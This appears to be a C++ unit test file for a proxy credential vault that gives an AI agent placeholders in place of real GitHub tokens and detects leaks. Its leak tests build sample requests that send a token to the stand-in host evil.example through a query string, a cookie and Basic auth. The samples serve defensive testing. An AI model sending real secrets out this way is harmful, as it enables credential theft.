#include "proxy/inspect/credentials.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include "common/encoding.h"
#include "inspect_test_util.h"
#include "policy/loader.h"
#include "support/test_env.h"

namespace warden::proxy::inspect {
namespace {

constexpr std::string_view kToken = "ghp_realSecretValue0123456789abcdef";

std::vector<policy::Credential> credentials(std::string value_from = "env:WARDEN_TEST_GITHUB_TOKEN") {
  const std::string yaml = "version: 1\ncredentials:\n  github:\n    env: GITHUB_TOKEN\n    value_from: " + value_from +
                           "\n    inject:\n      - { host: api.github.com, ports: [443] }\n";
  auto p = policy::loadPolicyText(yaml, "test.yaml");
  EXPECT_TRUE(p.ok()) << (p.ok() ? "" : p.error().toString());
  return p.ok() ? p.value().credentials : std::vector<policy::Credential>{};
}

std::shared_ptr<const CredentialVault> vault() {
  auto v = CredentialVault::load(credentials(), [](const std::string& name) -> std::optional<std::string> {
    if (name == "WARDEN_TEST_GITHUB_TOKEN") return std::string(kToken);
    return std::nullopt;
  });
  EXPECT_TRUE(v.ok()) << (v.ok() ? "" : v.error().toString());
  return v.ok() ? v.value() : nullptr;
}

TEST(CredentialVaultTest, TheAgentGetsAPlaceholderNeverTheValue) {
  const auto v = vault();
  ASSERT_TRUE(v);
  const auto env = v->agentEnvironment();
  ASSERT_EQ(env.size(), 1u);
  EXPECT_EQ(env[0].first, "GITHUB_TOKEN");
  EXPECT_EQ(env[0].second.rfind("warden-cred-github-", 0), 0u);
  EXPECT_EQ(env[0].second.size(), std::string("warden-cred-github-").size() + 32);
  EXPECT_EQ(env[0].second.find(kToken), std::string::npos);
  EXPECT_NE(vault()->agentEnvironment()[0].second, env[0].second) << "placeholders are random per load";
}

TEST(CredentialVaultTest, SubstitutesInHeadersAndBasicCredentialsOnlyForItsInjectEndpoints) {
  const auto v = vault();
  const std::string ph = v->agentEnvironment()[0].second;
  HttpRequestHead head = requestHead("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " + ph +
                                     "\r\nX-Other: a" + ph + "b\r\n\r\n");
  const auto r = v->applyToHead(head, "api.github.com", 443);
  EXPECT_TRUE(r.leaked.empty());
  EXPECT_EQ(r.substituted, 2u);
  EXPECT_EQ(findHeader(head.headers, "authorization")->value, "token " + std::string(kToken));
  EXPECT_EQ(findHeader(head.headers, "x-other")->value, "a" + std::string(kToken) + "b");

  HttpRequestHead basic = requestHead("GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Basic " +
                                      base64Encode("x-access-token:" + ph) + "\r\n\r\n");
  EXPECT_EQ(v->applyToHead(basic, "api.github.com", 443).substituted, 1u);
  EXPECT_EQ(base64Decode(findHeader(basic.headers, "authorization")->value.substr(6)).value_or(""),
            "x-access-token:" + std::string(kToken));

  HttpRequestHead wrong_port = requestHead("GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " + ph + "\r\n\r\n");
  EXPECT_EQ(v->applyToHead(wrong_port, "api.github.com", 8443).leaked, std::vector<std::string>{"github"});
}

TEST(CredentialVaultTest, APlaceholderOrTheValueAnywhereElseIsALeak) {
  const auto v = vault();
  const std::string ph = v->agentEnvironment()[0].second;
  for (const std::string& request :
       {"GET /collect?t=" + ph + " HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: evil.example\r\nCookie: a=" + std::string(kToken) + "\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Basic " + base64Encode("u:" + ph) + "\r\n\r\n"}) {
    HttpRequestHead head = requestHead(request);
    const std::string before = head.headers.empty() ? "" : head.headers.back().value;
    const auto r = v->applyToHead(head, "evil.example", 443);
    EXPECT_EQ(r.leaked, std::vector<std::string>{"github"}) << request;
    EXPECT_EQ(r.substituted, 0u);
  }
  EXPECT_EQ(v->scrub("/collect?t=" + ph + "&v=" + std::string(kToken)), "/collect?t=[credential:github]&v=[credential:github]");
}

TEST(CredentialVaultTest, BodiesAreScannedAcrossReadBoundaries) {
  const auto v = vault();
  const std::string body = "{\"note\":\"" + std::string(kToken) + "\"}";
  for (size_t piece : {size_t{1}, size_t{3}, body.size()}) {
    CredentialVault::BodyScanner scanner(*v, "evil.example", 443);
    std::vector<std::string> found;
    for (size_t i = 0; i < body.size(); i += piece) {
      for (auto& n : scanner.feed(std::string_view(body).substr(i, piece))) found.push_back(n);
    }
    EXPECT_EQ(found, std::vector<std::string>{"github"}) << piece;
  }
  CredentialVault::BodyScanner to_github(*v, "api.github.com", 443);
  EXPECT_FALSE(to_github.active());
}

TEST(CredentialVaultTest, ValuesComeOnlyFromPresentVariablesAndRootOnlyFiles) {
  auto missing = CredentialVault::load(credentials(), [](const std::string&) { return std::nullopt; });
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.error().message().find("credential github: the supervisor's environment has no WARDEN_TEST_GITHUB_TOKEN"),
            std::string::npos);
  auto short_value = CredentialVault::load(credentials(), [](const std::string&) { return std::string("abc"); });
  ASSERT_FALSE(short_value.ok());
  EXPECT_EQ(short_value.error().message().find("abc"), std::string::npos) << "the value never appears in an error";
  auto newline = CredentialVault::load(credentials(), [](const std::string&) { return std::string("abcdefgh\nijk"); });
  EXPECT_FALSE(newline.ok());

  testing::TempDir dir;
  const auto file = dir / "token";
  testing::writeFile(file, std::string(kToken) + "\n");
  ::chmod(file.c_str(), 0644);
  auto readable = CredentialVault::load(credentials("file:" + file.string()));
  ASSERT_FALSE(readable.ok());
  EXPECT_NE(readable.error().message().find("group or others may read it"), std::string::npos) << readable.error().toString();
  ::chmod(file.c_str(), 0600);
  auto ok = CredentialVault::load(credentials("file:" + file.string()));
  ASSERT_TRUE(ok.ok()) << ok.error().toString();
  HttpRequestHead head = requestHead("GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer " +
                                     ok.value()->agentEnvironment()[0].second + "\r\n\r\n");
  ok.value()->applyToHead(head, "api.github.com", 443);
  EXPECT_EQ(findHeader(head.headers, "authorization")->value, "Bearer " + std::string(kToken)) << "the newline is dropped";
  const auto link = dir / "link";
  std::filesystem::create_symlink(file, link);
  EXPECT_FALSE(CredentialVault::load(credentials("file:" + link.string())).ok()) << "a symlink is refused";
}

}  // namespace
}  // namespace warden::proxy::inspect
